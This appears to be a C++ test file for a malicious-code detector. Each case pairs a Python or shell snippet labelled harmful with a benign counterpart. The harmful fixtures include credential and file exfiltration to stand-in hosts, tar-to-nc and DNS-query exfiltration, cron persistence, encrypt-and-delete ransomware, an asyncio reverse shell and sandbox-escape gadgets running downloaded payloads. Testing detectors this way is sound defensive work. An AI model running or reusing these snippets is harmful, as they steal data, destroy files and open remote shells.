// BLOCKED behaviour in library spellings the model lacked (issue 14, fifth
// round): credentials the AWS SDK found, screenshots written by mss and
// uploaded, python-crontab jobs, a whole home directory walked onto a socket.
// Each with the ordinary use next to it. Strings here are never executed.
#include "test_util.hpp"

namespace mai::assess::test {
namespace {


TEST(MaliciousSpellings, SdkCredentialsScreenshotsCronAndHomeWalks) {
  const Case cases[] = {
      {"boto3's resolved credentials posted", B,
       "import boto3, requests\ncreds = boto3.Session().get_credentials()\n"
       "requests.post('https://x.example.net/a', json={'k': creds.access_key, 's': creds.secret_key})\n",
       "EXFILTRATION"},
      {"a boto3 session used for S3", L,
       "import boto3\ns3 = boto3.Session(profile_name='dev').client('s3')\nfor b in s3.list_buckets()['Buckets']:\n    print(b['Name'])\n",
       nullptr},
      {"an mss screenshot file uploaded", B,
       "import mss, requests\nwith mss.mss() as sct:\n    sct.shot(output='s.png')\n"
       "requests.post('https://x.example.net/s', files={'f': open('s.png', 'rb')})\n",
       "EXFILTRATION"},
      {"python-crontab job added", B,
       "from crontab import CronTab\ncron = CronTab(user=True)\njob = cron.new(command='/usr/bin/python3 /home/u/.cache/.u.py')\n"
       "job.minute.every(5)\ncron.write()\n",
       "PERSISTENCE"},
      {"python-crontab jobs listed", L, "from crontab import CronTab\nfor job in CronTab(user=True):\n    print(job)\n", nullptr},
      {"documents found by walking the home directory, sent over a socket", B,
       "import os, socket\nhome = os.path.expanduser('~')\ns = socket.socket()\ns.connect(('203.0.113.5', 8000))\n"
       "for root, dirs, files in os.walk(home):\n    for n in files:\n        if n.endswith(('.pdf', '.docx')):\n"
       "            s.sendall(open(os.path.join(root, n), 'rb').read())\n",
       "EXFILTRATION"},
      {"the home directory walked to count sizes", L,
       "import os\ntotal = 0\nfor root, dirs, files in os.walk(os.path.expanduser('~')):\n    for n in files:\n"
       "        total += os.path.getsize(os.path.join(root, n))\nprint(total)\n",
       nullptr},
  };
  for (const auto& c : cases) check(c);
}

// An archive of a home directory (or a directory in one) holds every file
// under it: sent out, it is the user's files found by walking. Who-am-I
// commands print identity; a word tree-sitter-bash splits is still one word.
TEST(MaliciousSpellings, HomeArchivesIdentityCommandsAndSplitWords) {
  const Case cases[] = {
      {"tar of ~ piped to nc", B, "tar czf - ~ | nc 203.0.113.5 9000\n", "EXFILTRATION", SH},
      {"zip of /home uploaded by curl -T -", B, "zip -r - /home | curl -s -T - http://203.0.113.5/u\n", "EXFILTRATION", SH},
      {"a tar of ~/Documents kept on the machine", L, "tar czf backup.tgz ~/Documents\n", nullptr, SH},
      {"one note sent is not a walk", L, "cat ~/notes.txt | curl -s -T - https://paste.example.org/\n", nullptr, SH},
      {"tarfile of ~/Documents posted", B,
       "import tarfile, os, requests\nwith tarfile.open('b.tgz', 'w:gz') as t:\n    t.add(os.path.expanduser('~/Documents'))\n"
       "requests.post('http://203.0.113.5/u', files={'f': open('b.tgz', 'rb')})\n",
       "EXFILTRATION"},
      {"make_archive of the home directory posted", B,
       "import shutil, os, requests\narc = shutil.make_archive('/tmp/b', 'gztar', os.path.expanduser('~'))\n"
       "requests.post('http://203.0.113.5/u', data=open(arc, 'rb'))\n",
       "EXFILTRATION"},
      {"the project's own directory archived and posted", L,
       "import tarfile, requests\nwith tarfile.open('src.tgz', 'w:gz') as t:\n    t.add('src')\n"
       "requests.post('https://ci.example.com/upload', files={'f': open('src.tgz', 'rb')})\n",
       nullptr},
      {"the host name in DNS queries, $(hostname).$i split by the grammar", B,
       "for i in 1 2 3; do dig $(hostname).$i.exfil.example.net; done\n", "COVERT-CHANNEL-EXFILTRATION", SH},
      {"the user name in an nslookup", B, "nslookup $(whoami).x.example.net\n", "COVERT-CHANNEL-EXFILTRATION", SH},
      {"host and user written into a local file", L, "echo \"built on $(hostname) by $(whoami)\" > build-info.txt\n", nullptr,
       SH},
  };
  for (const auto& c : cases) check(c);
}

// Ransomware through pathlib and cryptography's cipher contexts:
// with_suffix/with_name name a sibling file, stem/suffix are the name's parts,
// encryptor().update() encrypts, decryptor().update() does not.
TEST(MaliciousSpellings, PathlibRansomwareWithCipherContexts) {
  const Case cases[] = {
      {"rglob, encryptor().update, with_suffix(suffix + '.enc'), unlink", B,
       "import os\nfrom pathlib import Path\nfrom cryptography.hazmat.primitives.ciphers import Cipher, algorithms, modes\n"
       "KEY = os.urandom(32)\ndef encrypt_file(p):\n    iv = os.urandom(16)\n"
       "    enc = Cipher(algorithms.AES(KEY), modes.CFB(iv)).encryptor()\n    data = p.read_bytes()\n"
       "    p.with_suffix(p.suffix + '.enc').write_bytes(iv + enc.update(data) + enc.finalize())\n    p.unlink()\n"
       "for p in Path.home().rglob('*.docx'):\n    encrypt_file(p)\n",
       "RANSOMWARE-ENCRYPT-AND-DELETE"},
      {"the matching decryption tool", L,
       "import os, sys\nfrom pathlib import Path\nfrom cryptography.hazmat.primitives.ciphers import Cipher, algorithms, modes\n"
       "KEY = bytes.fromhex(os.environ['VAULT_KEY'])\nfor p in Path(sys.argv[1]).rglob('*.enc'):\n    raw = p.read_bytes()\n"
       "    dec = Cipher(algorithms.AES(KEY), modes.CFB(raw[:16])).decryptor()\n"
       "    p.with_suffix('').write_bytes(dec.update(raw[16:]) + dec.finalize())\n    p.unlink()\n",
       nullptr},
      {"encrypted copies next to the originals, kept", L,
       "import os\nfrom pathlib import Path\nfrom cryptography.hazmat.primitives.ciphers import Cipher, algorithms, modes\n"
       "KEY = os.urandom(32)\nfor p in Path('exports').rglob('*.csv'):\n    iv = os.urandom(16)\n"
       "    enc = Cipher(algorithms.AES(KEY), modes.CFB(iv)).encryptor()\n"
       "    p.with_name(p.stem + '.csv.enc').write_bytes(iv + enc.update(p.read_bytes()) + enc.finalize())\n",
       nullptr},
  };
  for (const auto& c : cases) check(c);
}

// asyncio.open_connection gives a reader (data from the network) and a
// writer (a socket): a shell's output relayed to it is a reverse shell.
TEST(MaliciousSpellings, AsyncioStreams) {
  const Case cases[] = {
      {"asyncio relay between a connection and /bin/sh", B,
       "import asyncio\nasync def main():\n    reader, writer = await asyncio.open_connection('203.0.113.9', 4444)\n"
       "    proc = await asyncio.create_subprocess_exec('/bin/sh', stdin=asyncio.subprocess.PIPE, stdout=asyncio.subprocess.PIPE)\n"
       "    while True:\n        line = await reader.readline()\n        proc.stdin.write(line)\n"
       "        out = await proc.stdout.readline()\n        writer.write(out)\nasyncio.run(main())\n",
       "REVERSE-SHELL"},
      {"code read from a stream and executed", B,
       "import asyncio\nasync def main():\n    r, w = await asyncio.open_connection('203.0.113.9', 8000)\n"
       "    exec(await r.read())\nasyncio.run(main())\n",
       "REMOTE-CODE-EXECUTION"},
      {"an ordinary line protocol client", L,
       "import asyncio\nasync def main():\n    r, w = await asyncio.open_connection('127.0.0.1', 7070)\n"
       "    w.write(b'STATUS build1 ok\\n')\n    print(await r.readline())\nasyncio.run(main())\n",
       nullptr},
  };
  for (const auto& c : cases) check(c);
}

// What a shell line prints is what check_output/os.popen return: every
// command of a list (whoami && hostname), not only the last.
TEST(MaliciousSpellings, WhatShellLinesPrint) {
  const Case cases[] = {
      {"whoami && hostname via check_output, to a webhook", B,
       "import subprocess, requests\nout = subprocess.check_output('whoami && hostname', shell=True, text=True)\n"
       "requests.post('https://discord.com/api/webhooks/1/abc', json={'content': out})\n",
       "COVERT-CHANNEL-EXFILTRATION"},
      {"os.popen(...).read() to a webhook", B,
       "import os, requests\nrequests.post('https://discord.com/api/webhooks/1/abc', json={'content': os.popen('whoami; id').read()})\n",
       "COVERT-CHANNEL-EXFILTRATION"},
      {"the host name printed on the terminal", M,
       "import subprocess\nprint(subprocess.check_output('hostname && uptime', shell=True, text=True))\n", "RUNS-PROCESS"},
  };
  for (const auto& c : cases) check(c);
}

// A sandbox escape's gadget search: object's subclasses, reached from any
// value, and a class picked from them called (Popen) or its module's
// globals used (os._wrap_close.__init__.__globals__['system']). A plugin
// registry over the code's own class's subclasses is ordinary.
TEST(MaliciousSpellings, ObjectSubclassGadgets) {
  const Case cases[] = {
      {"Popen found among object's subclasses runs a download", B,
       "import urllib.request\n"
       "payload = urllib.request.urlopen('http://198.51.100.4/p').read().decode()\n"
       "popen = [c for c in ().__class__.__base__.__subclasses__() if c.__name__ == 'Popen'][0]\n"
       "popen(['sh', '-c', payload])\n",
       "EXEC-DECODED-PAYLOAD"},
      {"os.system through _wrap_close's globals", B,
       "for c in ''.__class__.__mro__[1].__subclasses__():\n"
       "    if c.__name__ == '_wrap_close':\n"
       "        c.__init__.__globals__['system']('id')\n",
       "EXEC-DECODED-PAYLOAD"},
      {"a plugin registry over a class's own subclasses", L,
       "class Plugin:\n    pass\nclass Csv(Plugin):\n    name = 'csv'\n"
       "for sub in Plugin.__subclasses__():\n    print(sub.name, sub())\n"},
      {"object's subclasses only counted", L, "print(len(object.__subclasses__()))\n"},
  };
  for (const auto& c : cases) check(c);
}

}  // namespace
}  // namespace mai::assess::test
